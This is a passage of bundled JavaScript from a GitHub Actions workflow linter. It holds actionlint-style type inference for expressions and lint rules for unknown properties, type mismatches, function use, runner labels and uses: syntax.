/** The type of a matrix value as written in YAML (an expression is typed in the job's scope). */
function valueType(token, scope, depth = 0) {
    if (depth > 32)
        return ANY;
    if ((0,dist/* isBasicExpression */.hR)(token))
        return token.originalExpressions?.length ? STRING : typeOf({ text: token.expression, at: { line: 1, column: 1 } }, scope);
    if ((0,dist/* isMapping */.pi)(token))
        return strictObject(new Map(mappingEntries(token).map(([k, v]) => [k.toLowerCase(), valueType(v, scope, depth + 1)])));
    if ((0,dist/* isSequence */.wZ)(token)) {
        let elem;
        for (const item of token)
            elem = elem ? merge(elem, valueType(item, scope, depth + 1)) : valueType(item, scope, depth + 1);
        return arrayOf(elem ?? ANY);
    }
    if ((0,dist/* isBoolean */.Lm)(token))
        return BOOL;
    if ((0,dist/* isNumber */.Et)(token))
        return NUMBER;
    if ((0,dist/* isString */.Kg)(token)) {
        if (token.value.includes('${{'))
            return ANY;
        const s = token.value.trim();
        if (s === 'true' || s === 'false')
            return BOOL;
        if (s === 'null')
            return NULL;
        return s !== '' && Number.isFinite(Number(s)) ? NUMBER : STRING;
    }
    return token.templateTokenType === NULL_TOKEN ? NULL : ANY;
}
/** `matrix` of a job from `strategy.matrix` (actionlint's checkMatrix); a job without a matrix has `{}`. */
function matrixType(job, scope) {
    const matrix = find(job.strategy, 'matrix');
    if (!matrix)
        return strictObject();
    if (!(0,dist/* isMapping */.pi)(matrix)) {
        const t = (0,dist/* isBasicExpression */.hR)(matrix) ? valueType(matrix, scope) : ANY;
        if (t.kind !== 'object')
            return looseObject();
        const props = new Map(t.props);
        const include = props.get('include');
        props.delete('include');
        props.delete('exclude');
        if (include?.kind === 'array' && include.elem.kind === 'object')
            for (const [n, p] of include.elem.props)
                props.set(n, props.has(n) ? merge(props.get(n), p) : p);
        return { kind: 'object', props, mapped: t.mapped };
    }
    let o = strictObject();
    let include;
    for (const [key, value] of mappingEntries(matrix)) {
        if (key === 'include')
            include = value;
        else if (key !== 'exclude') {
            // A row is a list of values (or an expression giving one): the matrix value is one of them.
            const t = valueType(value, scope);
            o.props.set(key.toLowerCase(), t.kind === 'array' ? t.elem : ANY);
        }
    }
    if (!include)
        return o;
    if (!(0,dist/* isSequence */.wZ)(include)) {
        const t = valueType(include, scope);
        if (t.kind === 'array') {
            const merged = merge(o, t.elem);
            if (merged.kind === 'object')
                return merged;
        }
        return looseObject();
    }
    for (const combination of include) {
        if (!(0,dist/* isMapping */.pi)(combination)) {
            const merged = merge(o, valueType(combination, scope));
            o = merged.kind === 'object' ? { ...merged, props: new Map(merged.props) } : { ...o, mapped: ANY }; // a copy: merged may be a stored payload type
            continue;
        }
        for (const [key, value] of mappingEntries(combination)) {
            const name = key.toLowerCase();
            const t = valueType(value, scope);
            o.props.set(name, o.props.has(name) ? merge(o.props.get(name), t) : t);
        }
    }
    return o;
}
/** `steps.<id>.outputs` of a step: known for a local action, loose for github-script, else any name. */
function stepOutputs(project, uses) {
    if (!uses)
        return mapOf(STRING);
    if (uses.startsWith('./')) {
        const action = project.local(uses);
        if (action?.kind !== 'action')
            return mapOf(STRING);
        return strictObject(new Map([...action.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
    }
    if (uses.startsWith('actions/github-script@'))
        return looseObject();
    return mapOf(STRING);
}
/** Whether one expression gives the whole value (not text around `${{ }}`). */
function wholeExpression(token) {
    return token !== undefined && (0,dist/* isBasicExpression */.hR)(token) && !token.originalExpressions?.length;
}
/** Keys of a job that one expression may give whole, with the types it must have there (actionlint's checkObjectExpression…). */
function wholeValues(job, scope, problems) {
    const expect = (token, what, ok) => {
        if (!wholeExpression(token))
            return;
        const [site] = expressionSites(token);
        const t = site ? typeOf(site, scope) : ANY;
        if (t.kind === 'any' || ok.includes(t.kind))
            return;
        problems.push({ kind: 'type', at: site.at, job, message: `type of expression at "${what}" must be ${ok.join(' or ')} but found type ${typeName(t)}` });
    };
    expect(job.runsOn, 'runs-on', ['string', 'array']);
    expect(job.services, 'services', ['object']);
    expect(find(job.container, 'credentials'), 'credentials', ['object']);
    for (const [, service] of mappingEntries(job.services))
        expect(find(service, 'credentials'), 'credentials', ['object']);
}
/** The scope of a job before its first step: `needs`, `matrix`, and `steps` still empty. */
function jobScope(base, workflow, job, project) {
    const scope = new Map(base);
    scope.set('needs', needsType(workflow, job, project));
    scope.set('matrix', matrixType(job, scope));
    scope.set('steps', strictObject());
    return scope;
}
/** Adds a step that has run to `steps` of a job's scope. */
function addStep(scope, step, project) {
    const steps = scope.get('steps');
    if (!step.id)
        return;
    if (step.id.value.includes('${{'))
        steps.mapped = ANY;
    steps.props.set(step.id.value.toLowerCase(), strictObject({ outputs: stepOutputs(project, step.uses?.value), conclusion: STRING, outcome: STRING }));
}
/**
 * The type of every context where an expression of `workflow` is evaluated: at workflow level
 * (no job), in a job's keys (`beforeStep` 0), or in its step of index `beforeStep` (the steps
 * before it have run). For rules that ask "what is the type of this expression here" with
 * {@link typeOf}.
 */
function scopeOf(workflow, project, job, beforeStep = 0) {
    const base = workflowScope(workflow);
    if (!job)
        return base;
    const scope = jobScope(base, workflow, job, project);
    for (const step of job.steps.slice(0, beforeStep))
        addStep(scope, step, project);
    return scope;
}
/**
 * `with:` of a call of a local reusable workflow against the types of its `on.workflow_call.inputs`
 * (actionlint's checkWorkflowCall): a literal is typed as YAML reads it, one whole expression by its
 * type, text around `${{ }}` is a string.
 */
function callInputs(workflow, job, scope, project, problems) {
    const uses = job.uses.value;
    const called = project.local(uses);
    if (called?.kind !== 'workflow' || !called.workflowCall)
        return;
    const declared = new Map([...called.workflowCall.inputs].map(([name, entry]) => [name.toLowerCase(), { name, type: inputType(entry.value) }]));
    for (const [name, entry] of job.with) {
        const input = declared.get(name.toLowerCase());
        if (!input || input.type.kind === 'any')
            continue;
        const value = entry.value;
        let t;
        if (wholeExpression(value))
            t = typeOf(expressionSites(value)[0] ?? { text: 'null', at: entry.key.at }, scope);
        else if ((0,dist/* isBasicExpression */.hR)(value))
            t = STRING;
        // The parser reads `null` and an empty value alike as ''; the text tells them apart.
        else if ((0,dist/* isString */.Kg)(value) && value.value === '' && /^(null|Null|NULL|~)$/.test(textAt(workflow.file.text, value)))
            t = NULL;
        else
            t = valueType(value, scope);
        if (assignable(input.type, t))
            continue;
        const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : entry.key.at;
        problems.push({ kind: 'type', at, job, message: `input "${input.name}" is typed as ${typeName(input.type)} by reusable workflow "${uses}": a ${typeName(t)} value cannot be assigned` });
    }
}
/** The text of a one-line token in the file. */
function textAt(text, token) {
    const r = token.range;
    if (!r || r.start.line !== r.end.line)
        return '';
    let start = 0;
    for (let line = 1; line < r.start.line && start >= 0; line++)
        start = text.indexOf('\n', start) + 1 || -1;
    return start < 0 ? '' : text.slice(start + r.start.column - 1, start + r.end.column - 1);
}
/** Problems by workflow, for each run (a run has its own project: local files may differ). */
const analysed = new WeakMap();
/** Every type problem of a workflow, computed once a run (each rule of the family asks for its kind). */
function analyseWorkflow(workflow, project) {
    let byWorkflow = analysed.get(project);
    if (!byWorkflow)
        analysed.set(project, (byWorkflow = new WeakMap()));
    let problems = byWorkflow.get(workflow);
    if (!problems) {
        problems = [];
        try {
            analyse(workflow, project, problems);
        }
        catch {
            // A shape of file nothing here foresaw: the problems found so far, and no stack trace (the
            // parser rules still say what is wrong with the file).
        }
        byWorkflow.set(workflow, problems);
    }
    return problems;
}
function analyse(workflow, project, problems) {
    const base = workflowScope(workflow);
    const checkSites = (sites, scope, template, job) => {
        for (const site of sites) {
            const typed = checkExpression(site, scope);
            for (const p of typed.problems)
                problems.push({ ...p, job });
            const t = typed.type;
            if (template && (t.kind === 'object' || t.kind === 'array' || t.kind === 'null')) {
                problems.push({
                    kind: 'type',
                    at: site.at,
                    job,
                    message: `${t.kind === 'null' ? 'null' : `a value of type ${briefTypeName(t)}`} is evaluated in \${{ }} where a string is expected: it prints as ${t.kind === 'null' ? 'an empty string' : t.kind === 'array' ? '"Array"' : '"Object"'}; use toJSON() or a property of it`
                });
            }
        }
    };
    const keyed = (token, scope, job, skip = []) => {
        for (const [key, value] of mappingEntries(token)) {
            if (skip.includes(key))
                continue;
            // A whole mapping given by one expression (`env: ${{ fromJSON(…) }}`) is not printed.
            const whole = wholeExpression(value) && MAPPING_KEYS.has(key);
            checkSites(expressionSites(value, key === 'if'), scope, TEMPLATE_KEYS.has(key) && !whole, job);
        }
    };
    // Workflow level.
    keyed(workflow.root, base, undefined, ['on', 'jobs', 'name', 'permissions', 'defaults']); // run-name, env, concurrency
    for (const job of workflow.jobs) {
        const scope = jobScope(base, workflow, job, project);
        keyed(job.token, scope, job, ['steps', 'outputs']);
        wholeValues(job, scope, problems);
        if (job.uses)
            callInputs(workflow, job, scope, project, problems);
        for (const step of job.steps) {
            keyed(step.token, scope, job);
            addStep(scope, step, project);
        }
        checkSites(job.outputExpressions, scope, true, job);
    }
    // on.workflow_call: input defaults, and outputs (where `jobs` is typed).
    const call = workflow.on.get('workflow_call');
    if (call) {
        // A default sees the inputs declared before it (actionlint), and must fit its input's type.
        const before = strictObject();
        const scope = new Map(base).set('inputs', before);
        for (const [name, spec] of mappingEntries(find(call.value, 'inputs'))) {
            const sites = expressionSites(find(spec, 'default'));
            checkSites(sites, scope, false);
            const declared = inputType(spec);
            const value = find(spec, 'default');
            if (sites.length === 1 && value && (0,dist/* isBasicExpression */.hR)(value) && !value.originalExpressions?.length && (declared.kind === 'bool' || declared.kind === 'number')) {
                const t = typeOf(sites[0], scope);
                if (t.kind !== declared.kind && t.kind !== 'any') {
                    problems.push({ kind: 'type', at: sites[0].at, message: `type of input "${name}" must be ${declared.kind} but found type ${typeName(t)}` });
                }
            }
            before.props.set(name.toLowerCase(), declared);
        }
        const jobs = new Map();
        for (const job of workflow.jobs) {
            const outputs = job.uses ? looseObject() : strictObject(new Map([...job.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
            jobs.set(job.id.value.toLowerCase(), strictObject({ outputs }));
        }
        const outputsScope = new Map(base).set('jobs', strictObject(jobs));
        for (const [, spec] of mappingEntries(find(call.value, 'outputs')))
            checkSites(expressionSites(find(spec, 'value')), outputsScope, true);
    }
}
/** A rule that reports the problems of one kind, as they are. */
function typeProblemRule(meta, kind) {
    return {
        ...meta,
        create(context) {
            return {
                workflowPre(workflow) {
                    for (const p of analyseWorkflow(workflow, context.project))
                        if (p.kind === kind)
                            context.report(workflow.file, p, p.message);
                }
            };
        }
    };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/tokens.js
/** Small readers of GitHub's token tree shared by the syntax rules (runner labels, conditions, filters). */

/** The value of `key` in a mapping token. */
function child(t, key) {
    if (!t || !(0,dist/* isMapping */.pi)(t))
        return undefined;
    for (const pair of t)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
/** A string token as a positioned scalar. */
function stringScalar(t) {
    if (!t || !(0,dist/* isString */.Kg)(t) || !t.range)
        return undefined;
    return { value: t.value, at: { line: t.range.start.line, column: t.range.start.column } };
}
const linesOf = new WeakMap();
/** Line `n` (1-based) of a file, the file split once however many rules ask. */
function tokens_lineOf(file, n) {
    let lines = linesOf.get(file);
    if (!lines) {
        lines = file.text.split('\n');
        linesOf.set(file, lines);
    }
    return lines[n - 1] ?? '';
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-property.js



/**
 * Whether the reference at `at` is the left side of `||` (`github.event.pull_request.number ||
 * github.ref`, the concurrency group copied into push-only workflows): its author expects it to be
 * null under some trigger, and the fallback decides.
 */
function hasFallback(file, at) {
    const line = tokens_lineOf(file, at.line);
    const rest = line.slice(at.column - 1).replace(/^\.?[A-Za-z_][\w-]*(?:\s*\.\s*[\w-]+|\s*\[[^\]]*\])*/, '');
    return /^\s*\|\|/.test(rest);
}
/** Unknown step and job ids are PG112's and PG113's, which say more (later step, job not needed). */
function reportedElsewhere(p) {
    const path = p.path ?? [];
    if (path.length === 1 && (path[0] === 'steps' || path[0] === 'needs'))
        return true;
    return path.length === 3 && path[0] === 'needs' && path[2] === 'outputs';
}
const unknown_property_rule = {
    id: 'PG105',
    name: 'unknown-property',
    level: 'error',
    description: 'A property that the context does not have: a matrix key the matrix does not define, `matrix.*` in a job without a matrix, an undeclared `inputs.*` or `secrets.*`, a misspelt `github.*` or `runner.*`, a `github.event.*` property that no trigger of the workflow has, a `vars.*` name no variable can have.',
    help: "Contexts are typed from what the workflow declares, as actionlint does: `matrix` from `strategy.matrix` (its rows and `include:`; a matrix made by an expression is not checked), `inputs` from `on.workflow_call.inputs` and `on.workflow_dispatch.inputs`, `secrets` from `on.workflow_call.secrets` when the workflow declares them, `steps.<id>.outputs` from a local action's `outputs:`, `needs.<id>` from the job's outputs, and `github`, `runner`, `job`, `strategy` from GitHub's documentation. A property they do not have evaluates to an empty string without any error: a misspelt name silently becomes ''. `github.event` is typed by the triggers of the workflow (beyond actionlint, which leaves it open), from GitHub's webhooks OpenAPI spec: the payloads of all the triggers merged, all activity types of each, so a property is reported only when no trigger has it (under `push` alone, `github.event.pull_request` is always null, unless a `||` fallback follows it: `github.event.pull_request.number || github.ref`) or when it is misspelt; an object the spec leaves open (`client_payload`, `inputs`) and every trigger the spec does not describe (`schedule`, `workflow_call`, whose event is the caller's) accept any name. `env` and outputs of remote actions accept any name; `vars` any name a configuration variable can have (letters, digits and `_`, not starting with `GITHUB_`).",
    create(context) {
        return {
            workflowPre(workflow) {
                for (const p of analyseWorkflow(workflow, context.project)) {
                    if (p.kind !== 'property' || reportedElsewhere(p))
                        continue;
                    const path = p.path ?? [];
                    if (path.length === 1 && path[0] === 'matrix' && p.job && !p.job.strategy) {
                        context.report(workflow.file, p, `job "${p.job.id.value}" has no strategy.matrix, so matrix.${p.name} is always empty; add the matrix or remove the reference`);
                        continue;
                    }
                    // github.event.*: the message names the triggers (github.event.inputs of workflow_dispatch is typed from its inputs).
                    const event = path[0] === 'github' && path[1] === 'event' && p.name !== undefined && !(path[2] === 'inputs' && workflow.on.has('workflow_dispatch'));
                    if (event && inOtherTriggers(workflow, path.slice(2), p.name) && hasFallback(workflow.file, p.at))
                        continue;
                    const message = event ? eventPropertyMessage(workflow, path.slice(2), p.name) : undefined;
                    context.report(workflow.file, p, message ?? (path.length ? `${path.join('.')}: ${p.message}` : p.message));
                }
            }
        };
    }
};
/* harmony default export */ const unknown_property = (unknown_property_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/type-mismatch.js
/** PG106 type-mismatch: comparisons that are always false, arguments of the wrong type, objects printed as strings. */

/* harmony default export */ const type_mismatch = (typeProblemRule({
    id: 'PG106',
    name: 'type-mismatch',
    level: 'error',
    description: "A value of the wrong type: a comparison that is always false (`github.event == 'push'`), a function argument of the wrong type, a property of a string, an object or array in `${{ }}` where a string is expected, a `with:` value of the wrong type for a local reusable workflow.",
    help: "Expressions are typed as actionlint types them (`string`, `number`, `bool`, `null`, objects with known properties, arrays). GitHub compares an object with a string without error, and `==` is then always false (`!=` always true); `startsWith(github.event, 'x')` is always false; `github.repository.owner` is empty (`github.repository` is a string); `${{ github.event }}` in `run:` prints `Object`; `runs-on:` given an object fails the job; a local reusable workflow refuses a `with:` value that does not fit the `type:` of its `on.workflow_call` input (a number input given `three`). Untyped values (`fromJSON()` of a non-literal, step outputs, `github.event.*` under a trigger the webhooks spec does not describe) are `any`, which is never reported; an object of a webhook payload that may be null (`github.event.pull_request.milestone`) compares with a string as null does. Use `toJSON()` to print an object, or the property you meant."
}, 'type'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/function-not-allowed.js
/** PG107 function-not-allowed: a function that exists, used at a key where GitHub does not provide it. */

/* harmony default export */ const function_not_allowed = (parserMessageRule({
    id: 'PG107',
    name: 'function-not-allowed',
    level: 'error',
    description: '`hashFiles()` outside the keys of a step, or `success()`, `failure()`, `always()`, `cancelled()` outside `if:`.',
    help: "Some functions are available only at some keys: `hashFiles()` in a step's `run`, `with`, `env`, `name`, `if`, `working-directory`, `continue-on-error` and `timeout-minutes`; the status functions `success()`, `failure()`, `always()` and `cancelled()` only in the `if:` of a job or step. Elsewhere GitHub refuses the workflow (\"Unrecognized function\"). Move the call to a step, or compute the value in a step and pass it through `outputs`."
}, 'function-not-allowed', (m) => m.replace(/^Unrecognized function: '(.*)'$/, (_all, name) => {
    const keys = SPECIAL_FUNCTIONS.get(name.toLowerCase()) ?? [];
    return `calling function "${name}" is not allowed here: "${name}" is only available in ${keys.map((k) => `"${k}"`).join(', ')}`;
})));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/function-arguments.js
/** PG108 function-arguments: format() placeholders that do not match its arguments, broken JSON in fromJSON(). */

/* harmony default export */ const function_arguments = (typeProblemRule({
    id: 'PG108',
    name: 'function-arguments',
    level: 'error',
    description: "`format()` whose placeholders `{0}`, `{1}`… do not match its arguments, and `fromJSON('…')` of a literal that is not JSON.",
    help: "`format('{0}-{1}', a)` fails the run (a placeholder without an argument); an argument no placeholder uses is a forgotten `{n}`. `fromJSON()` of a literal string that is not valid JSON fails when it is evaluated. Both are checked as actionlint checks them; the number of arguments of every function is checked by PG102, their types by PG106."
}, 'call'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/runner-labels.js
/**
 * Runner labels (PG140): GitHub-hosted labels as of December 2026 (GitHub's docs "GitHub-hosted
 * runners" and actionlint's rule_runner_label.go at 011a6d1), the preset labels of self-hosted
 * runners, and the labels GitHub retired.
 */
const GITHUB_HOSTED = [
    'ubuntu-latest',
    'ubuntu-slim',
    'ubuntu-26.04',
    'ubuntu-24.04',
    'ubuntu-22.04',
    'ubuntu-26.04-arm',
    'ubuntu-24.04-arm',
    'ubuntu-22.04-arm',
    'ubuntu-latest-4-cores',
    'ubuntu-latest-8-cores',
    'ubuntu-latest-16-cores',
    'windows-latest',
    'windows-2025',
    'windows-2025-vs2026',
    'windows-2022',
    'windows-11-arm',
    'windows-latest-8-cores',
    'macos-latest',
    'macos-latest-large',
    'macos-latest-xlarge',
    'macos-26',
    'macos-26-intel',
    'macos-26-large',
    'macos-26-xlarge',
    'macos-15',
    'macos-15-intel',
    'macos-15-large',
    'macos-15-xlarge',
    'macos-14',
    'macos-14-large',
    'macos-14-xlarge'
];
/** Labels every self-hosted runner has (https://docs.github.com/en/actions/how-tos/manage-runners/self-hosted-runners/use-in-a-workflow). */
const SELF_HOSTED_PRESETS = ['self-hosted', 'linux', 'macos', 'windows', 'x64', 'arm', 'arm64'];
/** GitHub-hosted labels GitHub retired (a job on one never starts), with a current replacement. */
const RETIRED = {
    'ubuntu-16.04': 'ubuntu-24.04',
    'ubuntu-18.04': 'ubuntu-24.04',
    'ubuntu-20.04': 'ubuntu-24.04',
    'macos-10.15': 'macos-15',
    'macos-11': 'macos-15',
    'macos-12': 'macos-15',
    'macos-13': 'macos-15-intel',
    'macos-13-large': 'macos-15-large',
    'macos-13-xlarge': 'macos-15-xlarge',
    'windows-2016': 'windows-2025',
    'windows-2019': 'windows-2025'
};
/**
 * Label prefixes of third-party runner services, as their docs name their runners: Blacksmith
 * (`blacksmith-4vcpu-ubuntu-2404`), Depot (`depot-ubuntu-24.04-4`), Namespace
 * (`namespace-profile-…`, `nscloud-…`), BuildJet (`buildjet-2vcpu-ubuntu-2204`), Ubicloud
 * (`ubicloud-standard-2`), WarpBuild (`warp-ubuntu-latest-x64-2x`), RunsOn (`runs-on=…`), Cirun
 * (`cirun-…`), CodSpeed (`codspeed-macro`), actuated (`actuated-…`). Found in pnpm, uv, k6 and cosign.
 */
const THIRD_PARTY_PREFIXES = ['blacksmith', 'depot-', 'namespace-profile-', 'nscloud-', 'buildjet-', 'ubicloud', 'warp-', 'runs-on=', 'runs-on/', 'cirun-', 'codspeed-', 'actuated-'];
/** A label glob of the config (`linux-arm64-*`) as a regular expression; case-insensitive. */
function labelPattern(glob) {
    return new RegExp(`^${glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.')}$`, 'i');
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/runner-label.js
/** PG140 runner-label: `runs-on:` labels that no GitHub-hosted runner, preset or configured self-hosted label matches. */




/** The literal values `${{ matrix.<name> }}` takes: its row and `include:` entries. */
function matrixValues(job, name) {
    const matrix = child(job.strategy, 'matrix');
    const out = [];
    const row = child(matrix, name);
    if (row && (0,dist/* isSequence */.wZ)(row))
        for (const v of row)
            if ((0,dist/* isLiteral */.c$)(v) && (0,dist/* isString */.Kg)(v))
                out.push(stringScalar(v));
    const include = child(matrix, 'include');
    if (include && (0,dist/* isSequence */.wZ)(include))
        for (const combi of include) {
            const v = child(combi, name);
            if (v && (0,dist/* isString */.Kg)(v))
                out.push(stringScalar(v));
        }
    return out.filter((s) => s && !s.value.includes('${{'));
}
/** The labels of `runs-on:` to check: literals, and matrix values for `${{ matrix.x }}`. */
function labelsOf(job) {
    let token = job.runsOn;
    const group = !!child(token, 'group');
    if (token && (0,dist/* isMapping */.pi)(token))
        token = child(token, 'labels');
    const items = token && (0,dist/* isSequence */.wZ)(token) ? [...token] : token ? [token] : [];
    const labels = [];
    for (const item of items) {
        const s = stringScalar(item);
        if (s) {
            if (!s.value.includes('${{'))
                labels.push(s);
        }
        else if ((0,dist/* isBasicExpression */.hR)(item)) {
            const m = /^\s*matrix\.([\w-]+)\s*$/.exec(item.expression);
            if (m)
                labels.push(...matrixValues(job, m[1]));
        }
    }
    return { labels, group };
}
/** The operating system a GitHub-hosted or preset label selects, if any. */
function osOf(lower) {
    if (!GITHUB_HOSTED.includes(lower) && !SELF_HOSTED_PRESETS.includes(lower))
        return undefined;
    return /^(ubuntu|linux)(-|$)/.test(lower) ? 'Linux' : /^macos(-|$)/.test(lower) ? 'macOS' : /^windows(-|$)/.test(lower) ? 'Windows' : undefined;
}
/** The labels written in `runs-on:` itself (not from a matrix): a runner must have all of them. */
function literalLabels(job) {
    let token = job.runsOn;
    if (token && (0,dist/* isMapping */.pi)(token))
        token = child(token, 'labels');
    return token && (0,dist/* isSequence */.wZ)(token) ? [...token].map(stringScalar).filter((s) => !!s && !s.value.includes('${{')) : [];
}
const runner_label_rule = {
    id: 'PG140',
    name: 'runner-label',
    level: 'error',
    description: '`runs-on:` labels of two operating systems, or labels that are neither a GitHub-hosted runner (`ubuntu-24.04`, `macos-15`, …), a preset self-hosted label, nor a label of `runners.self-hosted` in `.github/phase-gates.yml`; labels of retired runners.',
    help: "A job whose labels no runner has waits in the queue (24 hours for self-hosted runners) and then fails; a misspelt label (`ubuntu-lastest`) or a retired image (`ubuntu-20.04`, `macos-13`, `windows-2019`) is the usual cause. GitHub-hosted labels are checked against GitHub's current list; `${{ matrix.os }}` is checked for each value of the matrix. Labels of your own self-hosted or larger runners go in `.github/phase-gates.yml`: `runners: { self-hosted: [gpu, linux-arm64-*] }`. Without that list, the other labels of a `[self-hosted, …]` job and those of a runner `group:` are not checked, the labels of third-party runner services are accepted (Blacksmith `blacksmith-…`, Depot `depot-…`, Namespace `namespace-profile-…`/`nscloud-…`, BuildJet, Ubicloud, WarpBuild `warp-…`, RunsOn `runs-on=…`, Cirun, CodSpeed, actuated), and an unknown label close to no GitHub-hosted one (a larger runner's name is the organization's own) is a note rather than an error; a near miss (`ubuntu-lastest`) and a retired label are errors. With the list, every other label is an error.",
    create(context) {
        const configured = (context.settings.selfHostedRunners ?? []).map(labelPattern);
        const known = [...GITHUB_HOSTED, ...SELF_HOSTED_PRESETS, ...(context.settings.selfHostedRunners ?? []).filter((l) => !/[*?]/.test(l))];
        return {
            jobPre(job, workflow) {
                if (job.uses || !job.runsOn)
                    return;
                const { labels, group } = labelsOf(job);
                const selfHosted = labels.some((l) => l.value.toLowerCase() === 'self-hosted');
                const seen = new Set();
                for (const label of labels) {
                    const lower = label.value.toLowerCase();
                    if (seen.has(`${lower}@${label.at.line}:${label.at.column}`))
                        continue;
                    seen.add(`${lower}@${label.at.line}:${label.at.column}`);
                    if (GITHUB_HOSTED.includes(lower) || SELF_HOSTED_PRESETS.includes(lower) || configured.some((p) => p.test(label.value)))
                        continue;
                    const replacement = RETIRED[lower];
                    if (replacement) {
                        context.report(workflow.file, label, `runner "${label.value}" was retired by GitHub: a job on it never starts; use "${replacement}"`);
                        continue;
                    }
                    // Labels of one's own runners are unknown here unless the config lists them.
                    if ((selfHosted || group) && configured.length === 0)
                        continue;
                    // Runners of third-party services (Blacksmith, Depot, …) have labels of their own scheme.
                    if (configured.length === 0 && THIRD_PARTY_PREFIXES.some((p) => lower.startsWith(p)))
                        continue;
                    const hint = suggestName(label.value, known);
                    const list = hint ? '' : `; GitHub-hosted labels are ${GITHUB_HOSTED.filter((l) => !/-(large|xlarge|cores)$/.test(l)).join(', ')}`;
                    // Without a configured list, a label near no GitHub-hosted one may be a larger runner's
                    // (their names are the organization's own): a note, not an error; a near miss is an error.
                    const level = configured.length === 0 && !hint ? 'note' : undefined;
                    context.report(workflow.file, label, `label "${label.value}" is unknown${hint}${list}; for a self-hosted or larger runner, add it to runners.self-hosted in .github/phase-gates.yml`, level);
                }
                // Labels of two operating systems: no runner has both, so the job never starts.
                let first;
                for (const label of literalLabels(job)) {
                    const os = osOf(label.value.toLowerCase());
                    if (!os)
                        continue;
                    if (!first)
                        first = { label, os };
                    else if (os !== first.os) {
                        context.report(workflow.file, label, `label "${label.value}" (${os}) conflicts with label "${first.label.value}" (${first.os}) at line ${first.label.at.line}: a runner must have every label of runs-on:, so the job never starts; to run on each, use a matrix`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const runner_label = (runner_label_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/uses-syntax.js
const ACTION_FORMATS = '"{owner}/{repo}@{ref}" or "{owner}/{repo}/{path}@{ref}"';
const WORKFLOW_FORMATS = '"{owner}/{repo}/.github/workflows/{file}.yml@{ref}" or "./.github/workflows/{file}.yml"';
/** Why a step's `uses:` is malformed, or undefined. */
function actionUsesProblem(value) {
    // `./path` and GitHub's self-repository `$/path` are read at the workflow's own commit: no ref.
    if (value.startsWith('./') || value.startsWith('$/') || value.startsWith('docker://'))
        return undefined;
    const at = value.indexOf('@');
    if (at < 0)
        return `action "${value}" has no ref: GitHub refuses the workflow; write ${ACTION_FORMATS}, e.g. "${value}@<commit sha>"`;
    const name = value.slice(0, at);
    const [owner = '', repo = ''] = name.split('/');
    const ref = value.slice(at + 1);
    if (!owner || !repo)
        return `action "${value}" is not ${ACTION_FORMATS}${!name.includes('/') ? ' (no "/" between owner and repository)' : !repo ? ' (the repository is missing)' : ''}`;
    if (!ref || ref.includes('@'))
        return `action "${value}" has ${ref ? 'more than one "@"' : 'an empty ref'}; write ${ACTION_FORMATS}`;
    return undefined;
}
/** Why a job's `uses:` (a reusable workflow) is malformed, or undefined. */
function workflowUsesProblem(value) {
    if (value.startsWith('./') || value.startsWith('$/')) {
        if (value.includes('@'))
            return `local reusable workflow "${value}" must not have a ref: it is read at the commit of the caller; remove "${value.slice(value.indexOf('@'))}"`;
        if (!/^[.$]\/\.github\/workflows\/[^/]+\.ya?ml$/.test(value))
            return `reusable workflow "${value}" is not a .yml or .yaml file directly in .github/workflows/; write ${WORKFLOW_FORMATS}`;
        return undefined;
    }
    const at = value.indexOf('@');
    const parts = (at < 0 ? value : value.slice(0, at)).split('/');
    const ref = at < 0 ? '' : value.slice(at + 1);
    if (parts.length < 5 || parts.some((p) => !p) || parts[2] !== '.github' || parts[3] !== 'workflows' || !/\.ya?ml$/.test(parts[parts.length - 1]) || !ref) {
        return `reusable workflow "${value}" is not ${WORKFLOW_FORMATS}${at < 0 || !ref ? ' (the ref is missing)' : ''}`;
    }
    return undefined;
}
const uses_syntax_rule = {
    id: 'PG141',
    name: 'uses-syntax',
    level: 'error',
    description: 'A `uses:` GitHub cannot resolve: an action without `@ref` (`uses: actions/checkout`), an empty owner, repository or ref, or a reusable workflow that is not `owner/repo/.github/workflows/x.yml@ref` or `./.github/workflows/x.yml`.',
    help: 'A step runs `{owner}/{repo}@{ref}`, `{owner}/{repo}/{path}@{ref}`, `./path/to/action` or `docker://image`; a job calls `{owner}/{repo}/.github/workflows/{file}.yml@{ref}` or `./.github/workflows/{file}.yml` (a local one has no ref, and reusable workflows live directly in .github/workflows). GitHub rejects any other form when the workflow is loaded, so no job of the workflow runs. Give the ref, preferably a full commit SHA.',
    create(context) {
        const check = (file, uses, problem) => {
            const value = uses?.value.trim();
            if (!uses || !value || value.includes('${{'))
                return;
            const message = problem(value);
            if (message)
                context.report(file, uses, message);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job.uses, workflowUsesProblem);
            },
            step(step, _owner, file) {
                check(file.file, step.uses, actionUsesProblem);
            }
        };
    }
};
/* harmony default export */ const uses_syntax = (uses_syntax_rule);

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-parser.js + 1 modules
var action_parser = __webpack_require__(4240);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/model/convert.js + 23 modules
var convert = __webpack_require__(9443);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-context.js + 1 modules
var template_context = __webpack_require__(5071);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/template-schema.js + 10 modules
var template_schema = __webpack_require__(5041);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-schema.js + 1 modules
var workflow_schema = __webpack_require__(2363);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-schema.js + 1 modules
var action_schema = __webpack_require__(8590);
;// CONCATENATED MODULE: ./.build/src/core/workflows/schema.js
/**
